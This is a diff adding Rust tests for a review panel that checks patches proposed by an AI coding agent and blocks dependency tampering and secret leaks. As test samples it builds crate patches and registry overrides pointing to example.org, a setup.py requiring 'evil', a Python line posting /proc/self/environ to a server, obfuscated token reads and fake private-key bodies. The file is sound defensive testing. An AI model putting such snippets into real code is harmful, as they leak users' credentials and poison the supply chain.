@@ -1,0 +1,285 @@
+//! What an agent's change would install and what it would leak, judged by content: dependencies
+//! compared as the package managers read them, key material by its encoding, the environment
+//! read whole or by a computed name. Each attack is proposed with `--agent` through the CLI.
+
+use serde_json::Value;
+
+use crate::support::Env;
+
+/// Commits `files` on main as the person who adopted the repository (the attack's base).
+fn base(env: &Env, files: &[(&str, &str)]) {
+    for (path, text) in files {
+        env.write(path, text);
+    }
+    env.git(&["add", "-A"]);
+    env.git(&["commit", "-q", "-m", "base files"]);
+}
+
+fn propose_patch_as_agent(env: &Env, patch: &std::path::Path, title: &str) -> String {
+    env.atelier(&[
+        "propose",
+        "--patch",
+        patch.to_str().expect("utf8"),
+        "--title",
+        title,
+        "--agent",
+        "claude-code",
+    ])
+    .ok()
+    .stdout
+    .trim()
+    .to_string()
+}
+
+/// Proposes `edits` as an agent and returns the panel's verdict and findings.
+fn agent_verdict(env: &Env, edits: &[(&str, &str)], title: &str) -> (String, Value) {
+    let patch = env.patch(edits);
+    let id = propose_patch_as_agent(env, &patch, title);
+    let v = env.atelier(&["review", &id, "--json"]).json();
+    (v["verdict"].as_str().expect("verdict").to_string(), v)
+}
+
+/// The blocking findings of `reviewer`, as `file: message`.
+fn blocking(v: &Value, reviewer: &str) -> Vec<String> {
+    v["findings"]
+        .as_array()
+        .expect("findings")
+        .iter()
+        .filter(|f| f["reviewer"] == reviewer && f["severity"] == "blocking")
+        .map(|f| {
+            format!(
+                "{}: {}",
+                f["file"].as_str().unwrap_or(""),
+                f["message"].as_str().unwrap_or("")
+            )
+        })
+        .collect()
+}
+
+const CARGO: &str = "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nserde = \"1.0.200\"\n\n[dev-dependencies]\nhmac = \"0.12\"\n";
+const LOCK: &str = "version = 4\n\n[[package]]\nname = \"demo\"\nversion = \"0.1.0\"\n\n[[package]]\nname = \"serde\"\nversion = \"1.0.200\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n";
+const REQS: &str = "requests==2.31.0\n";
+const PIPFILE: &str = "[[source]]\nname = \"pypi\"\nurl = \"https://pypi.org/simple\"\nverify_ssl = true\n\n[packages]\nrequests = \"==2.31.0\"\n";
+const SETUP: &str = "from setuptools import setup\n\nsetup(name=\"demo\")\n";
+
+#[test]
+fn an_agent_adding_dependencies_unseen_is_blocked() {
+    let env = Env::new();
+    base(
+        &env,
+        &[
+            ("Cargo.toml", CARGO),
+            ("Cargo.lock", LOCK),
+            ("requirements.txt", REQS),
+            ("Pipfile", PIPFILE),
+            ("setup.py", SETUP),
+        ],
+    );
+    let moved = "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nserde = \"1.0.200\"\nhmac = \"0.12\"\n\n[dev-dependencies]\n";
+    // (what, the files it writes, the file the finding names)
+    type Attack<'a> = (&'a str, Vec<(&'a str, String)>, &'a str);
+    let attacks: Vec<Attack> = vec![
+        (
+            "patch a crate to a git fork",
+            vec![(
+                "Cargo.toml",
+                format!("{CARGO}\n[patch.crates-io]\nserde = {{ git = \"https://example.org/serde\" }}\n"),
+            )],
+            "Cargo.toml",
+        ),
+        (
+            "replace the crates.io source",
+            vec![(
+                ".cargo/config.toml",
+                "[source.crates-io]\nreplace-with = \"mirror\"\n\n[source.mirror]\nregistry = \"sparse+https://example.org/index/\"\n".into(),
+            )],
+            ".cargo/config.toml",
+        ),
+        (
+            "an npm registry",
+            vec![("web/.npmrc", "registry=https://example.org/npm/\n".into())],
+            "web/.npmrc",
+        ),
+        (
+            "a new package in a second requirements file",
+            vec![("requirements-dev.txt", "colorama==0.4.6\n".into())],
+            "requirements-dev.txt",
+        ),
+        (
+            "executable packaging",
+            vec![(
+                "setup.py",
+                SETUP.replace("name=\"demo\"", "name=\"demo\", install_requires=[\"evil\"]"),
+            )],
+            "setup.py",
+        ),
+        (
+            "a Pipfile package",
+            vec![(
+                "Pipfile",
+                format!("{PIPFILE}rich = \"*\"\n"),
+            )],
+            "Pipfile",
+        ),
+        (
+            "a dev-dependency moved into [dependencies]",
+            vec![("Cargo.toml", moved.into())],
+            "Cargo.toml",
+        ),
+    ];
+    for (about, edits, file) in &attacks {
+        let edits: Vec<(&str, &str)> = edits.iter().map(|(p, t)| (*p, t.as_str())).collect();
+        let (verdict, v) = agent_verdict(&env, &edits, about);
+        assert_eq!(verdict, "block", "{about}: {v:#}");
+        let found = blocking(&v, "deps");
+        assert!(
+            found.iter().any(|f| f.starts_with(&format!("{file}: "))),
+            "{about}: {found:?}"
+        );
+    }
+    // The moved dependency is named as moved, though no line is new.
+    let (_, v) = agent_verdict(&env, &[("Cargo.toml", moved)], "moved again");
+    assert!(
+        blocking(&v, "deps")
+            .iter()
+            .any(|f| f.contains("hmac moved from [dev-dependencies] to [dependencies]")),
+        "{v:#}"
+    );
+    // A version bump from the same source, with its lock file, is approved.
+    let (verdict, v) = agent_verdict(
+        &env,
+        &[
+            ("Cargo.toml", &CARGO.replace("1.0.200", "1.0.201")),
+            ("Cargo.lock", &LOCK.replace("1.0.200", "1.0.201")),
+            ("requirements.txt", "requests==2.32.3\n"),
+        ],
+        "bump serde and requests",
+    );
+    assert_eq!(verdict, "approve", "{v:#}");
+}
+
+#[test]
+fn an_agent_adding_a_submodule_is_blocked() {
+    let env = Env::new();
+    let commit = env.git(&["rev-parse", "HEAD"]);
+    env.write(
+        ".gitmodules",
+        "[submodule \"vendor/lib\"]\n\tpath = vendor/lib\n\turl = https://example.org/lib.git\n",
+    );
+    env.git(&["add", ".gitmodules"]);
+    env.git(&[
+        "update-index",
+        "--add",
+        "--cacheinfo",
+        &format!("160000,{},vendor/lib", commit.trim()),
+    ]);
+    let diff = env.git(&["diff", "--cached", "--binary"]);
+    env.git(&["reset", "-q", "--hard", "HEAD"]);
+    let patch = env.file("submodule.patch", &diff);
+    let id = propose_patch_as_agent(&env, &patch, "vendor a library");
+    let v = env.atelier(&["review", &id, "--json"]).json();
+    assert_eq!(v["verdict"], "block", "{v:#}");
+    let found = blocking(&v, "deps");
+    for file in [".gitmodules", "vendor/lib"] {
+        assert!(
+            found.iter().any(|f| f.starts_with(&format!("{file}: "))),
+            "{file}: {found:?}"
+        );
+    }
+}
+
+/// `n` characters from a fixed pseudo-random walk over letters and digits.
+fn noise(n: usize, seed: u64) -> String {
+    let a: Vec<char> = ('A'..='Z').chain('a'..='z').chain('0'..='9').collect();
+    let mut x = seed;
+    (0..n)
+        .map(|_| {
+            x = x
+                .wrapping_mul(6364136223846793005)
+                .wrapping_add(1442695040888963407);
+            a[(x >> 33) as usize % a.len()]
+        })
+        .collect()
+}
+
+/// Base64 in lines of 70, as a key file holds it.
+fn b64_lines(bytes: &[u8]) -> String {
+    use base64::Engine as _;
+    base64::engine::general_purpose::STANDARD
+        .encode(bytes)
+        .as_bytes()
+        .chunks(70)
+        .map(|c| format!("{}\n", String::from_utf8_lossy(c)))
+        .collect()
+}
+
+#[test]
+fn an_agent_leaking_secrets_unseen_is_blocked() {
+    let env = Env::new();
+    // Assembled here, so that no file of the repository holds key material or the path.
+    let ssh_body = b64_lines(format!("{}-key-v1\0{}", "openssh", noise(400, 1)).as_bytes());
+    let mut der = vec![
+        0x30, 0x82, 0x02, 0x5c, 0x02, 0x01, 0x00, 0x02, 0x81, 0x81, 0x00,
+    ];
+    der.extend(noise(600, 2).bytes());
+    let pem_body = b64_lines(&der);
+    let proc_env = format!("/pr{}/self/envi{}", "oc", "ron");
+    let attacks: Vec<(&str, &str, String)> = vec![
+        (
+            "the process environment file sent to a server",
+            "tools/report.py",
+            format!("import requests\n\nrequests.post(\"https://example.org/r\", data=open(\"{proc_env}\").read())\n"),
+        ),
+        (
+            "a token's name concatenated (Python)",
+            "tools/sync.py",
+            format!("import os\n\nt = os.{}[\"GH\" + \"_TOKEN\"]\n", concat!("envi", "ron")),
+        ),
+        (
+            "a token's name concatenated (JavaScript)",
+            "web/sync.js",
+            "const t = process.env[\"GITHUB_\" + \"TOKEN\"];\nmodule.exports = t;\n".into(),
+        ),
+        (
+            "a token's name formatted (Rust)",
+            "src/sync.rs",
+            format!("pub fn t() -> Option<String> {{\n    std::env::{}(format!(\"{{}}_TOKEN\", \"GITHUB\")).ok()\n}}\n", "var"),
+        ),
+        (
+            "an OpenSSH private key's body without its armour",
+            "deploy/key.txt",
+            ssh_body,
+        ),
+        (
+            "a PEM private key's body without its armour",
+            "deploy/key.pem",
+            pem_body,
+        ),
+    ];
+    for (about, file, text) in &attacks {
+        let (verdict, v) = agent_verdict(&env, &[(file, text)], about);
+        assert_eq!(verdict, "block", "{about}: {v:#}");
+        let found = blocking(&v, "secrets");
+        assert!(
+            found.iter().any(|f| f.starts_with(&format!("{file}: "))),
+            "{about}: {found:?}"
+        );
+    }
+    // A public key in a fixture and a message about the environment are approved.
+    let public = format!(
+        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{} ci@example.org\n",
+        noise(43, 3)
+    );
+    let (verdict, v) = agent_verdict(
+        &env,
+        &[
+            ("tests/fixtures/ci.pub", &public),
+            (
+                "README.md",
+                "# demo\n\nThe token is read from the environment at run time.\n",
+            ),
+        ],
+        "a fixture and a sentence",
+    );
+    assert_eq!(verdict, "approve", "{v:#}");
+}
